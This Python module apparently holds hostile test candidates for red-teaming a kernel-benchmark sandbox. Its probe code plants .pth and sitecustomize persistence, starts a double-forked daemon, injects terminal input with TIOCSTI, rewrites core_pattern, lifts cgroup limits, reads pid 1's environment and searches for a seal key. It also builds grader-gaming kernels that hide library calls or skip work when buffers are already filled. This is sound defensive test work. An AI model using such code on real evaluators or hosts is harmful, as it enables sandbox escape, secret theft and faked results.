"""Hostile candidates of the third red-team round (tests/test_redteam_round3.py), each the honest example kernel
plus one trick, or a solution that does the work some other way. Steps print ``ESCAPED <step>: ...`` or
``BLOCKED <step>: ...`` (as tests/sandbox_attacks.py's do) so a test tells "blocked" from "never ran"."""

from __future__ import annotations

from sandbox_attacks import HONEST
from support import KV8_PS1

LAUNCH = "    _launch(q, k_cache, v_cache, kv_indptr, kv_indices, None, sm_scale, output, lse)\n"
SIG = "q, k_cache, v_cache, kv_indptr, kv_indices, sm_scale, output, lse"

PROBE = r'''
import os as _os, glob as _glob

def _say(kind, step, what):
    print(f"{kind} {step}: {what}", flush=True)

def _try(step, fn):
    try:
        got = fn()
    except BaseException as err:
        _say("BLOCKED", step, f"{type(err).__name__}: {err}")
        return
    _say("ESCAPED" if got else "BLOCKED", step, str(got)[:400] if got else "nothing found")
'''


def with_steps(steps: str) -> str:
    """The honest kernel whose first call runs ``steps`` (a body defining _steps())."""
    src = HONEST.replace(f"def run({SIG}):\n", f"_RAN = []\n\ndef run({SIG}):\n    if not _RAN:\n"
                         "        _RAN.append(1)\n        _steps()\n")
    return PROBE + steps + "\n" + src


def after_launch(code: str, prelude: str = "") -> str:
    body = "".join("    " + line + "\n" for line in code.strip("\n").splitlines())
    return HONEST.replace(LAUNCH, LAUNCH + body) + "\n" + prelude


# The whole operator in numpy, back through torch.from_numpy: no torch compute, no library the gate knows, no kernel.
NUMPY = f'''
import math
import numpy as np
import torch


def run({SIG}):
    qn, kn, vn = (t.to(torch.float32).numpy() for t in (q, k_cache, v_cache))
    ip, ix = kv_indptr.numpy(), kv_indices.numpy()
    batch, heads, dim = qn.shape
    group = heads // kn.shape[2]
    out = np.zeros((batch, heads, dim), np.float32)
    l2 = np.zeros((batch, heads), np.float32)
    for b in range(batch):
        pages = ix[ip[b]:ip[b + 1]]
        k = np.repeat(kn[pages, 0], group, axis=1)
        v = np.repeat(vn[pages, 0], group, axis=1)
        logits = np.einsum("hd,thd->ht", qn[b], k) * float(sm_scale)
        m = np.max(logits, -1, keepdims=True)
        p = np.exp(logits - m)
        s = np.sum(p, -1, keepdims=True)
        l2[b] = (m[:, 0] + np.log(s[:, 0])) / math.log(2.0)
        out[b] = np.einsum("ht,thd->hd", p / s, v)
    output.copy_(torch.from_numpy(out))
    lse.copy_(torch.from_numpy(l2))
'''

# Non-DPS: the work done, the outputs handed back in a layout the harness must still judge (or refuse) cleanly.
NON_DPS = f'''
import torch
from .honest import run as _honest


def run(q, k_cache, v_cache, kv_indptr, kv_indices, sm_scale):
    output = torch.empty(q.shape, dtype=torch.bfloat16)
    lse = torch.empty(q.shape[:2], dtype=torch.float32)
    _honest({SIG})
    return __HOW__
'''

LEAVE = r'''
_MARK = "__MARK__"

def _leave_files():
    import site, sys
    made = []
    places = ["/dev/shm/" + _MARK, "/tmp/" + _MARK, _os.path.expanduser("~/" + _MARK),
              _os.path.expanduser("~/.triton/cache/" + _MARK),
              _os.path.expanduser("~/.cache/torch_extensions/" + _MARK),
              "/var/tmp/" + _MARK, site.getusersitepackages() + "/" + _MARK + ".pth"]
    places += [p + "/" + _MARK + ".pth" for p in sys.path if p and _os.path.isdir(p)]
    places += [p + "/sitecustomize.py" for p in sys.path if p and _os.path.isdir(p) and "site-packages" in p]
    for path in places:
        try:
            _os.makedirs(_os.path.dirname(path), exist_ok=True)
            with open(path, "a") as f:
                f.write("import os; os.environ['CRUCIBLE_RT3'] = '1'\n")
            made.append(path)
        except OSError:
            pass
    return made

def _leave_shm():
    from multiprocessing import shared_memory
    seg = shared_memory.SharedMemory(name=_MARK + "-seg", create=True, size=4096)
    seg.buf[:5] = b"stale"
    return "posix shm " + seg.name

def _leave_sysv():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    shmid = libc.shmget(0x52543303, 4096, 0o1666)
    if shmid < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    return f"sysv shm {shmid}"

def _leave_daemon():
    import socket, time
    pid = _os.fork()
    if pid == 0:
        _os.setsid()
        if _os.fork() == 0:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.bind("\0" + _MARK)
            s.listen(1)
            time.sleep(120)
        _os._exit(0)
    _os.waitpid(pid, 0)
    return "double-forked daemon on an abstract socket"

def _steps():
    _try("leave_files", _leave_files)
    _try("leave_shm", _leave_shm)
    _try("leave_sysv", _leave_sysv)
    _try("leave_daemon", _leave_daemon)
'''

FIND = r'''
_MARK = "__MARK__"

def _find_files():
    import site, sys
    found = [p for p in _glob.glob("/dev/shm/*") + _glob.glob("/tmp/*") + _glob.glob("/var/tmp/*")
             + _glob.glob(_os.path.expanduser("~/*")) + _glob.glob(_os.path.expanduser("~/.triton/cache/*"))
             if _MARK in p]
    found += [p for p in sys.path if p and _os.path.exists(p + "/" + _MARK + ".pth")]
    if _os.environ.get("CRUCIBLE_RT3"):
        found.append("a .pth or sitecustomize ran")
    return found

def _find_shm():
    from multiprocessing import shared_memory
    seg = shared_memory.SharedMemory(name=_MARK + "-seg")
    return "opened " + seg.name + " " + bytes(seg.buf[:5]).decode()

def _find_sysv():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    shmid = libc.shmget(0x52543303, 4096, 0o666)
    if shmid < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    return f"found sysv shm {shmid}"

def _find_socket():
    import socket
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("\0" + _MARK)
    return "connected to the earlier daemon"

def _steps():
    _try("find_files", _find_files)
    _try("find_shm", _find_shm)
    _try("find_sysv", _find_sysv)
    _try("find_socket", _find_socket)
'''

# Reaches for the host: a socket the host listens on, the tty, the core-dump handler, the cgroup, scheduled jobs
# (RECON must come first in the source: its steps run last).
HOST = r'''
_P = __PARAMS__

def _host_socket():
    import socket
    got = []
    for addr in ("\0" + _P["abstract"], _P["path"]):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect(addr)
            s.sendall(b"from the candidate")
            got.append(repr(addr))
        except OSError:
            pass
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect(("127.0.0.1", _P["port"]))
        got.append("tcp 127.0.0.1")
    except OSError:
        pass
    return got

def _tiocsti():
    import fcntl, termios
    fd = _os.open("/dev/tty", _os.O_RDWR)
    for ch in b"echo CRUCIBLE-TIOCSTI\n":
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
    return "pushed a command into the harness's terminal"

def _core_pattern():
    with open("/proc/sys/kernel/core_pattern", "w") as f:
        f.write("|/tmp/work/handler")
    return "core_pattern rewritten"

def _cgroup():
    done = []
    for path in _glob.glob("/sys/fs/cgroup/**/memory.max", recursive=True)[:20] + ["/sys/fs/cgroup/cgroup.procs"]:
        try:
            with open(path, "w") as f:
                f.write("max" if path.endswith("memory.max") else str(_os.getpid()))
            done.append(path)
        except OSError:
            pass
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_CPU)
    try:
        resource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        done.append(f"RLIMIT_CPU raised from {hard}")
    except (OSError, ValueError):
        pass
    return done

def _scheduled():
    import subprocess
    done = []
    for cmd in (["systemd-run", "--user", "--on-active=60", "true"], ["systemd-run", "--on-active=60", "true"],
                ["at", "now", "+", "1", "minute"], ["crontab", "-l"]):
        try:
            proc = subprocess.run(cmd, input="true\n", capture_output=True, text=True, timeout=10)
        except (OSError, subprocess.TimeoutExpired):
            continue
        if proc.returncode == 0:
            done.append(" ".join(cmd))
    return done

def _steps():
    _try("host_socket", _host_socket)
    _try("tiocsti", _tiocsti)
    _try("core_pattern", _core_pattern)
    _try("cgroup", _cgroup)
    _try("scheduled", _scheduled)
    _recon_steps()
'''

# What the worker's own process shows: its descriptors, the namespace's first process, a seal key anywhere.
RECON = r'''
def _fds():
    got = []
    for n in _os.listdir("/proc/self/fd"):
        try:
            target = _os.readlink("/proc/self/fd/" + n)
        except OSError:
            continue
        got.append(n + "->" + target)
        if target.startswith("/") and _os.path.isfile(target):
            try:
                with open("/proc/self/fd/" + n, "rb") as f:
                    got.append(repr(f.read(32)))
            except OSError:
                pass
    print("FDS", got, flush=True)
    return [g for g in got if "archive" in g or "seal" in g]

def _init_cmdline():
    text = open("/proc/1/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")
    print("INIT", text, flush=True)
    env = open("/proc/1/environ", "rb").read()
    return "read pid 1's environment: " + env[:200].decode(errors="replace")

def _seal_key():
    found = []
    skip = {"/proc", "/sys", "/dev", "/usr"}
    for root, dirs, files in _os.walk("/"):
        dirs[:] = [d for d in dirs if _os.path.join(root, d) not in skip and "site-packages" not in root]
        found += [_os.path.join(root, f) for f in files if f in ("seal.key", "archive.db")]
    return found

def _recon_steps():
    _try("fds", _fds)
    _try("init_environ", _init_cmdline)
    _try("seal_key", _seal_key)
'''

# Lazy whenever the output buffer already holds a finished answer (the timer's reused buffers), honest when it
# holds the harness's poison or nothing yet: keyed on content, not on the pointer.
LAZY_WHEN_FILLED = f'''
import math
from .honest import run as _honest


def run({SIG}):
    first = output[0, 0, 0].item()
    if first != 0.0 and not math.isnan(first):  # only the first request's answer is redone: a kernel still runs
        _honest(q[:1], k_cache, v_cache, kv_indptr[:2], kv_indices, sm_scale, output[:1], lse[:1])
        return
    _honest({SIG})
'''


# A library call hidden behind operator.attrgetter: ATen's bmm reached by a dotted string, no `torch.bmm` written.
ATTRGETTER = after_launch("""
_bmm = operator.attrgetter("ops.aten.bmm.default")(torch)
_scores = _bmm(q.float(), q.float().transpose(1, 2))
""", prelude="import operator\n")


def solution(name: str, source: str, dps: bool = True, honest: bool = False) -> dict:
    sources = [{"path": "kernel.py", "content": source}]
    if honest:
        sources.append({"path": "honest.py", "content": HONEST})
    return {"name": name, "definition": KV8_PS1, "author": "redteam3",
            "spec": {"language": "triton", "target_hardware": ["cpu"], "entry_point": "kernel.py::run",
                     "dependencies": [], "destination_passing_style": dps},
            "sources": sources}
